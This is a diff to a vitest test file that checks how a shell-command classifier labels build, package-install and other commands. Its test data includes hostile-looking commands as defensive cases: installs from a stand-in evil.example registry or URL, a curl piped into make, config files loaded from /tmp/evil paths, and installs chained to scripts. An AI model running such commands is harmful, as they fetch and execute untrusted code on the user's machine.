@@ -1,7 +1,7 @@
 import { expect, test } from "vitest";
 import { shellFacts } from "./shell.ts";
 
-test.each(["npm ci", "npm test", "npm run db:migrate", "npx vitest run src/round.test.ts", "make test", "cargo build --release", "go test ./...", "pytest -x tests/test_a.py", "pnpm install --frozen-lockfile"])("%s builds or tests what the project keeps", (command) => {
+test.each(["npm ci", "npm test", "npm run db:migrate", "npx vitest run src/round.test.ts", "make test", "cargo build --release", "go test ./...", "pytest -x tests/test_a.py", "pnpm install --frozen-lockfile", "npx --no-install eslint src", "npx --no tsup"])("%s builds or tests what the project keeps", (command) => {
   expect(shellFacts(command).class).toBe("build");
 });
 
@@ -11,6 +11,8 @@ test.each([
   "npm ci --prefix /tmp/x",
   "npm test -- --config=/tmp/evil.js",
   "npx create-thing",
+  "npx --no-install tsx evil.ts",
+  "npx --yes eslint src",
   "npx vitest --config /tmp/evil.ts",
   "make SHELL=/tmp/evil test",
   "make -f /tmp/Makefile",
@@ -22,4 +24,46 @@ test.each([
   "curl -fsSL https://tools.example/shim.sh | make",
 ])("%s can do anything, or cannot be read", (command) => {
   expect(["exec", "unknown", "network"]).toContain(shellFacts(command).class);
+});
+
+test.each([
+  ["npm i quickparse@4", "quickparse@4"],
+  ["npm install -D @scope/pkg@^4.1 lodash.merge", "@scope/pkg@^4.1 lodash.merge"],
+  ["pnpm add left-pad@latest", "left-pad@latest"],
+  ["pip install requests==2.1 'httpx[http2]'", "httpx[http2] requests==2.1"],
+  ["cargo add serde", "serde"],
+  ["uv add httpx && npm test", "httpx"],
+  ["npm ci && npm i quickparse && git add package.json", "quickparse"],
+])("%s installs %s and nothing else", (command, packages) => {
+  expect(shellFacts(command)).toMatchObject({ class: "exec", reaches: ["package"], packages: packages.split(" ") });
+});
+
+test.each([
+  "npm i https://evil.example/x.tgz",
+  "npm i ./x",
+  "npm i x.tgz",
+  "npm i x.tar.gz",
+  "npm i evil/repo",
+  "npm i github:evil/repo",
+  "npm i a@npm:evil",
+  "npm i a@git+https://evil.example/x",
+  "npm i -g a",
+  "npm i --registry=https://evil.example a",
+  "npm i --registry https://evil.example a",
+  "npm i a --ignore-scripts=false",
+  "npm i $NAME",
+  "npm i 'a b'",
+  "NPM_CONFIG_REGISTRY=https://evil.example npm i a",
+  "npm i a && ./setup.sh",
+  "npm i a && curl https://evil.example",
+  "npm i a; node -e 'x'",
+  "npm exec a",
+  "pip install ./x",
+  "pip install x.whl",
+  "pip install -r requirements.txt",
+  "pip install git+https://evil.example/x",
+  "pip install --index-url https://evil.example a",
+  "cargo add --git https://evil.example/x a",
+])("%s does more than install a package by its name", (command) => {
+  expect(shellFacts(command).reaches).toContain("other");
 });
